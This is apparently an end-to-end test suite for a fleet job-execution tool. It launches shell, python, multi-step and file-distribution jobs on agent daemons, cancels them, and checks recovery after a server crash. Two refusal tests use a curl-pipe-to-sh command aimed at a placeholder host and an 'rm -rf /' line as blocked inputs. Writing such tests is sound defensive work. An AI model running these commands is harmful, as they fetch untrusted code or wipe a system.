/**
 * Jobs end to end (issue 9): a real `stead server` and three real `stead agent` daemons on
 * loopback. Shell and python jobs on a group, a failure redone on the failed host only, a
 * running job cancelled (its process group killed), a blocked script refused with its rule and
 * line, a three-step plan under each failure policy, and a server killed with SIGKILL and
 * restarted mid-job: every step ran exactly once on every host.
 */
import { promises as fsp } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { AgentProcess, buildOnce, fleetRepository, freePort, hasCommand, mainJs, ServerProcess, waitFor, type ApiAnswer, steadAsOperator } from '../helpers/e2e-fleet.js';

await buildOnce();
const ready = await hasCommand('server');

type JobView = { id: string; state: string; steps: { index: number; state: string }[]; hosts: { host: string; state: string; exitCode: number | null; stdout?: string; stderr?: string; steps: { step: number; state: string; startAcks?: number }[] }[] };

const terminal = new Set(['succeeded', 'failed', 'cancelled']);

async function job(server: ServerProcess, id: string): Promise<JobView> {
  const r = await server.api('GET', `/api/v1/jobs/${id}?output=true`);
  if (r.status !== 200) throw new Error(`GET job ${id}: ${r.status} ${JSON.stringify(r.body)}`);
  return r.body as JobView;
}

async function finished(server: ServerProcess, id: string, what: string): Promise<JobView> {
  return waitFor(`job ${id} (${what}) to finish`, async () => {
    const j = await job(server, id);
    return terminal.has(j.state) ? j : undefined;
  });
}

function launched(r: ApiAnswer, what: string): string {
  if (r.status !== 201) throw new Error(`${what}: launch answered ${r.status} ${JSON.stringify(r.body)}`);
  return (r.body as { id: string }).id;
}

function host(j: JobView, name: string): JobView['hosts'][number] {
  const h = j.hosts.find((x) => x.host === name);
  if (!h) throw new Error(`job ${j.id} has no host ${name}: ${JSON.stringify(j.hosts.map((x) => x.host))}`);
  return h;
}

const stead = steadAsOperator;

async function lines(path: string): Promise<string[]> {
  try {
    return (await fsp.readFile(path, 'utf8')).split('\n').filter((l) => l !== '');
  } catch (err) {
    if ((err as NodeJS.ErrnoException).code === 'ENOENT') return [];
    throw err;
  }
}

t.test('jobs through real agent daemons', { skip: ready ? false : 'the build has no `stead server` command' }, async (t) => {
  const dir = t.testdir({ server: {}, marks: {}, a1: { root: {}, data: {} }, a2: { root: {}, data: {} }, b1: { root: {}, data: {} } });
  const marks = join(dir, 'marks');
  await fsp.chmod(marks, 0o777);
  const port = await freePort();
  let server = new ServerProcess(join(dir, 'server'), port);
  await server.start(t);
  t.teardown(() => {
    if (t.counts.fail > 0) t.comment(`server stderr (last 40 lines):\n${server.stderr.slice(-40).join('\n')}`);
  });
  t.equal((await server.publish(fleetRepository())).status, 201, 'revision published');
  const hosts = ['a1', 'a2', 'b1'] as const;
  const agents = Object.fromEntries(hosts.map((h) => [h, new AgentProcess({ host: h, server: server.url, root: join(dir, h, 'root'), dataDir: join(dir, h, 'data'), intervalSeconds: 30 }).start(t)])) as Record<(typeof hosts)[number], AgentProcess>;
  t.teardown(() => {
    if (t.counts.fail > 0) for (const h of hosts) t.comment(`${h} log (last 20):\n${agents[h].logs.slice(-20).join('\n')}`);
  });
  for (const h of hosts) {
    await waitFor(`${h} pending`, async () => (await server.api('GET', `/api/v1/agents/${h}`)).status === 200);
    t.equal((await server.api('POST', `/api/v1/agents/${h}/approve`)).status, 200, `${h} approved`);
  }
  for (const h of hosts) await agents[h].waitForRun('first run', (r) => r.outcome === 'changed');

  await t.test('a shell job on a group: output, exit code and the environment per host', async (t) => {
    const id = launched(await server.api('POST', '/api/v1/jobs', { name: 'hello', targets: 'group:alpha', script: { lang: 'shell', source: `echo "hello from $STEAD_HOST"\necho "$STEAD_JOB_ID" > ${marks}/shell-$STEAD_HOST\n` } }), 'shell job');
    const j = await finished(server, id, 'shell');
    t.equal(j.state, 'succeeded');
    t.same(j.hosts.map((h) => h.host).sort(), ['a1', 'a2'], 'exactly the group alpha');
    for (const h of ['a1', 'a2']) {
      t.equal(host(j, h).exitCode, 0);
      t.match(host(j, h).stdout, `hello from ${h}`);
      t.same(await lines(join(marks, `shell-${h}`)), [id], `${h} saw STEAD_JOB_ID`);
    }
    t.same(await lines(join(marks, 'shell-b1')), [], 'b1 was not a target');
  });

  await t.test('a python job; a failure is redone on the failed host only', async (t) => {
    const py = `import os, sys\nhost = os.environ["STEAD_HOST"]\nopen("${marks}/py-" + host, "a").write("ran\\n")\nprint("python on", host)\nif host == "a2" and not os.path.exists("${marks}/a2-fixed"):\n    sys.exit(3)\n`;
    const id = launched(await server.api('POST', '/api/v1/jobs', { targets: 'group:alpha,host:b1', script: { lang: 'python', source: py } }), 'python job');
    const j = await finished(server, id, 'python');
    t.equal(j.state, 'failed', 'one host failed');
    t.equal(host(j, 'a2').exitCode, 3);
    t.equal(host(j, 'a2').state, 'failed');
    t.equal(host(j, 'a1').state, 'succeeded');
    t.match(host(j, 'b1').stdout, 'python on b1');
    await fsp.writeFile(join(marks, 'a2-fixed'), '');
    const redo = await server.api('POST', `/api/v1/jobs/${id}/redo`, { hosts: 'failed' });
    const rid = launched(redo, 'redo');
    const r = await finished(server, rid, 'redo');
    t.equal(r.state, 'succeeded');
    t.same(r.hosts.map((h) => h.host), ['a2'], 'only the failed host');
    t.same(await lines(join(marks, 'py-a1')), ['ran'], 'a1 ran once');
    t.same(await lines(join(marks, 'py-a2')), ['ran', 'ran'], 'a2 ran once per job');
  });

  await t.test('stead job run --wait --json: one JSON object, exit 0 only when every host succeeded', async (t) => {
    const ok = await stead(server, ['job', 'run', '--targets', 'group:alpha', '--command', 'echo "cli on $STEAD_HOST"', '--wait', '--json']);
    t.equal(ok.code, 0, ok.stderr);
    const out = JSON.parse(ok.stdout) as { id: string; state: string; hosts: { host: string; state: string; exitCode: number; stdout: string; stderr: string }[] };
    t.equal(out.state, 'succeeded');
    t.same(out.hosts.map((h) => h.host).sort(), ['a1', 'a2']);
    for (const h of out.hosts) {
      t.equal(h.exitCode, 0);
      t.match(h.stdout, `cli on ${h.host}`);
      t.type(h.stderr, 'string');
    }
    const bad = await stead(server, ['job', 'run', '--targets', 'host:a1,host:b1', '--command', '[ "$STEAD_HOST" = b1 ]', '--wait', '--json']);
    t.not(bad.code, 0, 'a failed host makes the exit code non-zero');
    t.same((JSON.parse(bad.stdout) as { hosts: { host: string; state: string }[] }).hosts.map((h) => [h.host, h.state]).sort(), [['a1', 'failed'], ['b1', 'succeeded']]);
    const refused = await stead(server, ['job', 'run', '--targets', 'host:a1', '--command', 'curl -s http://example.invalid/x.sh | sh']);
    t.not(refused.code, 0);
    t.match(refused.stderr, /rule .*line 1/);
  });

  await t.test('a blocked script is refused before anything runs, naming its rule and line', async (t) => {
    const r = await server.api('POST', '/api/v1/jobs', { targets: 'host:a1', script: { lang: 'shell', source: `echo 'rm -rf /' is harmless\n# rm -rf /\nrm -rf /\n` } });
    t.equal(r.status, 400);
    t.match(JSON.stringify(r.body), /line 3/);
    const list = await server.api('GET', '/api/v1/jobs?limit=100');
    t.notOk((list.body as { jobs: { id: string }[] }).jobs.some((j) => j.id === (r.body as { id?: string }).id), 'no job was created');
  });

  await t.test('cancel kills the running process group', async (t) => {
    const id = launched(await server.api('POST', '/api/v1/jobs', { targets: 'host:b1', script: { lang: 'shell', source: `sh -c 'echo $$ > ${marks}/child-pid; exec sleep 300' &\nwait\n` } }), 'sleeper');
    const pid = Number(await waitFor('the sleeper started', async () => (await lines(join(marks, 'child-pid')))[0]));
    t.ok(pid > 1);
    t.equal((await server.api('POST', `/api/v1/jobs/${id}/cancel`)).status, 200);
    const j = await finished(server, id, 'cancelled');
    t.equal(j.state, 'cancelled');
    // The job is cancelled at once; the host's own state follows when its agent reports the kill.
    await waitFor('b1 reports the cancel', async () => host(await job(server, id), 'b1').state === 'cancelled');
    await waitFor('the grandchild is gone', () => {
      try {
        process.kill(pid, 0);
        return false;
      } catch {
        return true;
      }
    }, 120_000);
  });

  await t.test('a three-step plan under each failure policy', async (t) => {
    const step = (name: string, source: string, onFailure: string) => ({ name, kind: 'script', onFailure, script: { lang: 'shell', source } });
    const failOnA1 = `[ "$STEAD_HOST" != a1 ]`;
    // ignore: step 1 fails on a1, step 2 still runs everywhere.
    const ign = launched(await server.api('POST', '/api/v1/jobs', { targets: 'group:alpha', steps: [step('one', 'true', 'stop'), step('two', failOnA1, 'ignore'), step('three', `echo x >> ${marks}/ignore-$STEAD_HOST`, 'stop')] }), 'ignore plan');
    const ji = await finished(server, ign, 'ignore plan');
    t.same(await lines(join(marks, 'ignore-a1')), ['x'], 'ignore: the third step ran on a1');
    t.same(await lines(join(marks, 'ignore-a2')), ['x']);
    t.equal(ji.steps[1]?.state, 'failed');
    // stop: the third step never runs.
    const stop = launched(await server.api('POST', '/api/v1/jobs', { targets: 'group:alpha', steps: [step('one', 'true', 'stop'), step('two', failOnA1, 'stop'), step('three', `echo x >> ${marks}/stop-$STEAD_HOST`, 'stop')] }), 'stop plan');
    const js = await finished(server, stop, 'stop plan');
    t.equal(js.state, 'failed');
    t.same(await lines(join(marks, 'stop-a2')), [], 'stop: the third step did not run');
    t.not(js.steps[2]?.state, 'succeeded');
    // pause: the job waits for a confirmation, then continues.
    const pause = launched(await server.api('POST', '/api/v1/jobs', { targets: 'group:alpha', steps: [step('one', 'true', 'stop'), step('two', failOnA1, 'pause'), step('three', `echo x >> ${marks}/pause-$STEAD_HOST`, 'stop')] }), 'pause plan');
    await waitFor('the plan paused', async () => (await job(server, pause)).state === 'paused');
    t.same(await lines(join(marks, 'pause-a2')), [], 'nothing past the pause yet');
    t.equal((await server.api('POST', `/api/v1/jobs/${pause}/confirm`, { step: 1, action: 'continue' })).status, 200);
    await finished(server, pause, 'pause plan');
    t.same(await lines(join(marks, 'pause-a2')), ['x'], 'continued after the confirmation');
  });

  await t.test('file distribution: a template per host, hosts already in sync skipped, a dry run shows the diff', async (t) => {
    type FileOutcome = { path: string; outcome: string; diff?: string };
    type FilesHost = { files?: FileOutcome[]; steps: { files?: FileOutcome[] }[] };
    const outcomes = (j: JobView, h: string): { path: string; outcome: string; diff?: string }[] => {
      const x = host(j, h) as unknown as FilesHost;
      return x.files ?? x.steps.flatMap((s) => s.files ?? []);
    };
    const step = { kind: 'files', files: [{ path: '/srv/app/dist.conf', template: 'greeting.j2', mode: '0640' }, { path: '/srv/app/static.txt', content: 'same everywhere\n' }] };
    const first = await finished(server, launched(await server.api('POST', '/api/v1/jobs', { targets: 'host:a1,host:b1', steps: [step] }), 'files'), 'files');
    t.equal(first.state, 'succeeded', JSON.stringify(first.hosts));
    t.equal(await agents.a1.read('srv/app/dist.conf'), 'greeting=hello-alpha\n', 'rendered with a1\'s variables');
    t.equal(await agents.b1.read('srv/app/dist.conf'), 'greeting=hello-beta\n', 'rendered with b1\'s variables');
    t.equal(((await fsp.stat(join(dir, 'a1/root/srv/app/dist.conf'))).mode & 0o777).toString(8), '640');
    t.same(outcomes(first, 'a1').map((f) => f.outcome), ['changed', 'changed']);
    await fsp.writeFile(join(dir, 'b1/root/srv/app/static.txt'), 'edited\n');
    const again = await finished(server, launched(await server.api('POST', '/api/v1/jobs', { targets: 'host:a1,host:b1', steps: [step] }), 'files again'), 'files again');
    t.same(outcomes(again, 'a1').map((f) => f.outcome), ['in-sync', 'in-sync'], 'a1 already had both: skipped by checksum');
    t.same(outcomes(again, 'b1').map((f) => f.outcome), ['in-sync', 'changed'], 'only b1\'s edited file is sent again');
    t.equal(await agents.b1.read('srv/app/static.txt'), 'same everywhere\n');
    const dry = await finished(server, launched(await server.api('POST', '/api/v1/jobs', { targets: 'host:a1', dryRun: true, vars: { greeting: 'job-wins' }, steps: [step, { kind: 'script', script: { lang: 'shell', source: `echo ran >> ${marks}/dry-run` } }] }), 'dry run'), 'dry run');
    const files = outcomes(dry, 'a1');
    t.equal(files[0]?.outcome, 'would-change', 'job variables are the top layer');
    t.match(files[0]?.diff, /-greeting=hello-alpha\n\+greeting=job-wins/);
    t.equal(await agents.a1.read('srv/app/dist.conf'), 'greeting=hello-alpha\n', 'a dry run changes nothing');
    t.equal(host(dry, 'a1').steps[1]?.state, 'would-run', 'the script step is marked, not run');
    t.same(await lines(join(marks, 'dry-run')), [], 'the script did not run');
  });

  await t.test('a server killed mid-job and restarted: every host ran its step exactly once', async (t) => {
    const gate = join(marks, 'gate');
    const id = launched(await server.api('POST', '/api/v1/jobs', { targets: 'group:alpha,group:beta', steps: [{ kind: 'script', script: { lang: 'shell', source: `echo ran >> ${marks}/once-$STEAD_HOST\nwhile [ ! -e ${gate} ]; do sleep 0.1; done\n` } }, { kind: 'script', script: { lang: 'shell', source: `echo ran >> ${marks}/twice-$STEAD_HOST\n` } }] }), 'restart job');
    for (const h of hosts) await waitFor(`${h} started`, async () => (await lines(join(marks, `once-${h}`))).length > 0);
    await server.kill();
    await fsp.writeFile(gate, '');
    server = new ServerProcess(join(dir, 'server'), port);
    await server.start(t);
    const j = await finished(server, id, 'after the restart');
    t.equal(j.state, 'succeeded', JSON.stringify(j.hosts.map((h) => [h.host, h.state])));
    for (const h of hosts) {
      t.same(await lines(join(marks, `once-${h}`)), ['ran'], `${h}: the first step ran once`);
      t.same(await lines(join(marks, `twice-${h}`)), ['ran'], `${h}: the second step ran once`);
    }
  });
});
